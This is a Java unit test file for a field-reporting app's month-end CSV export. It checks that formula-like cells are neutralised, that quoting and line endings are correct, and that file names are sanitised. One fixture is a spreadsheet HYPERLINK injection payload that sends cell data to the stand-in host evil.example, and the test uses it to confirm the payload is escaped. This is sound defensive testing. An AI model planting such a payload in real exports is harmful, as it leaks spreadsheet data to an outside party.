package app.fieldbook.insights;

import static org.assertj.core.api.Assertions.assertThat;

import app.fieldbook.insights.MonthEnd.Compared;
import app.fieldbook.insights.MonthEnd.CrewTotal;
import app.fieldbook.insights.MonthEnd.Occurrence;
import app.fieldbook.insights.MonthEnd.SiteMonth;
import app.fieldbook.insights.MonthEnd.Totals;
import app.fieldbook.protocol.ReportStatus;
import java.math.BigDecimal;
import java.time.LocalDate;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Test;

/** The month-end as CSV: one table a spreadsheet opens as it is, and no cell it would take for a formula. */
class MonthEndCsvTest {

    private static final UUID SITE = UUID.randomUUID();
    private static final String HYPERLINK = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Details\")";

    @Test
    void aCellASpreadsheetWouldEvaluateIsWrittenAsText() {
        for (String formula : List.of("=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")) {
            assertThat(MonthEndCsv.text(formula)).as(formula).isEqualTo("\"'" + formula + "\"");
        }
        assertThat(MonthEndCsv.text("Crane late")).isEqualTo("\"Crane late\"");
        assertThat(MonthEndCsv.text("1 = 1")).isEqualTo("\"1 = 1\"");
        assertThat(MonthEndCsv.text("say \"stop\"")).isEqualTo("\"say \"\"stop\"\"\"");
        assertThat(MonthEndCsv.text("")).isEqualTo("\"\"");
        assertThat(MonthEndCsv.text(null)).isEmpty();
    }

    @Test
    void theTableStartsWithTheByteOrderMarkAndTheHeaderRowAndEndsLinesWithCrLf() {
        String csv = MonthEndCsv.of(monthEnd());
        assertThat(csv).startsWith("\uFEFF" + MonthEndCsv.HEADER + "\r\n").endsWith("\r\n");
        assertThat(CsvTable.parse(csv.substring(1)).rows()).allSatisfy(row -> assertThat(row).hasSize(11));
    }

    @Test
    void aCraftedReportTextIsOneTextCellThatNoSpreadsheetEvaluates() {
        CsvTable table = CsvTable.parse(MonthEndCsv.of(monthEnd()).substring(1));
        List<String> delay = table.single("Section", "delay");
        assertThat(table.cell(delay, "Text")).isEqualTo("'" + HYPERLINK);
        assertThat(table.cell(delay, "Site")).isEqualTo("'-NORTH");
        assertThat(table.cell(delay, "Date")).isEqualTo("2026-11-03");
        List<String> incident = table.single("Section", "safety incident");
        assertThat(table.cell(incident, "Text")).isEqualTo("Cut finger,\nfirst aid \"on site\"");
        for (List<String> row : table.rows()) {
            for (String cell : row) {
                assertThat(cell).as("a cell of %s", row).doesNotStartWith("=").doesNotStartWith("+")
                        .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
                if (cell.startsWith("-")) {
                    assertThat(cell).as("a cell of %s", row).matches("-[0-9]+(\\.[0-9]+)?");
                }
            }
        }
    }

    @Test
    void everyFigureIsARowWithItsPreviousMonthAndChangeAsNumbers() {
        CsvTable table = CsvTable.parse(MonthEndCsv.of(monthEnd()).substring(1));
        assertThat(table.header()).containsExactly("Month", "Section", "Site", "Site name", "Date", "Name", "Figure",
                "Value", "Previous month", "Change", "Text");
        List<String> hours = table.single("Section", "total", "Figure", "hours");
        assertThat(List.of(table.cell(hours, "Value"), table.cell(hours, "Previous month"), table.cell(hours, "Change")))
                .containsExactly("40.50", "48.00", "-7.50");
        List<String> carpentry = table.single("Section", "trade", "Name", "Carpentry", "Figure", "headcount");
        assertThat(table.cell(carpentry, "Change")).isEqualTo("1");
        assertThat(table.single("Section", "company", "Name", "", "Figure", "hours")).isNotNull();
        assertThat(table.cell(table.single("Section", "site", "Figure", "days missing"), "Value")).isEqualTo("28");
        assertThat(table.cell(table.single("Section", "site", "Figure", "reports returned"), "Value")).isEqualTo("1");
        assertThat(table.rows()).allSatisfy(row -> assertThat(table.cell(row, "Month")).isEqualTo("2026-11"));
    }

    @Test
    void theFileNameIsMadeOfTheMonthAndTheSitesCodeOrThePortfoliosNameInLettersAndDigits() {
        MonthEnd ofSite = monthEnd();
        assertThat(MonthEndController.fileName(ofSite, "csv")).isEqualTo("fieldbook-month-end-2026-11--NORTH.csv");
        MonthEnd everything = new MonthEnd("2026-11", "2026-10", null, null, null, ofSite.filedStatuses(), ofSite.sites(),
                ofSite.totals(), List.of(), List.of(), List.of(), List.of());
        assertThat(MonthEndController.fileName(everything, "csv")).isEqualTo("fieldbook-month-end-2026-11.csv");
        MonthEnd portfolio = new MonthEnd("2026-11", "2026-10", null, UUID.randomUUID(), " Nord & Süd / Häfen ",
                ofSite.filedStatuses(), ofSite.sites(), ofSite.totals(), List.of(), List.of(), List.of(), List.of());
        assertThat(MonthEndController.fileName(portfolio, "pdf"))
                .isEqualTo("fieldbook-month-end-2026-11-Nord-Sud-Hafen.pdf");
        MonthEnd unnamed = new MonthEnd("2026-11", "2026-10", null, UUID.randomUUID(), "東京", ofSite.filedStatuses(),
                ofSite.sites(), ofSite.totals(), List.of(), List.of(), List.of(), List.of());
        assertThat(MonthEndController.fileName(unnamed, "csv")).isEqualTo("fieldbook-month-end-2026-11.csv");
    }

    private static MonthEnd monthEnd() {
        Map<ReportStatus, Long> reports = new EnumMap<>(ReportStatus.class);
        reports.put(ReportStatus.DRAFT, 1L);
        reports.put(ReportStatus.SUBMITTED, 2L);
        reports.put(ReportStatus.RETURNED, 1L);
        reports.put(ReportStatus.APPROVED, 1L);
        SiteMonth site = new SiteMonth(SITE, "-NORTH", "=North \"yard\"", "Europe/Berlin", 30, 2, 28, reports, 3, 1, 1,
                2);
        Totals totals = new Totals(Compared.of(3, 1), Compared.of(2, 1), Compared.of(28, 29),
                Compared.of(new BigDecimal("40.50"), new BigDecimal("48.00")), Compared.of(6, 5), Compared.of(1, 0),
                Compared.of(1, 0), Compared.of(2, 0));
        return new MonthEnd("2026-11", "2026-10", SITE, null, null, List.of(ReportStatus.SUBMITTED, ReportStatus.APPROVED),
                List.of(site), totals,
                List.of(new CrewTotal("Carpentry", Compared.of(new BigDecimal("32.50"), new BigDecimal("40.00")),
                        Compared.of(6, 5))),
                List.of(new CrewTotal(null, Compared.of(new BigDecimal("8.00"), BigDecimal.ZERO), Compared.of(1, 0))),
                List.of(new Occurrence(LocalDate.of(2026, 11, 3), SITE, "-NORTH", UUID.randomUUID(), HYPERLINK)),
                List.of(new Occurrence(LocalDate.of(2026, 11, 4), SITE, "-NORTH", UUID.randomUUID(),
                        "Cut finger,\nfirst aid \"on site\"")));
    }
}
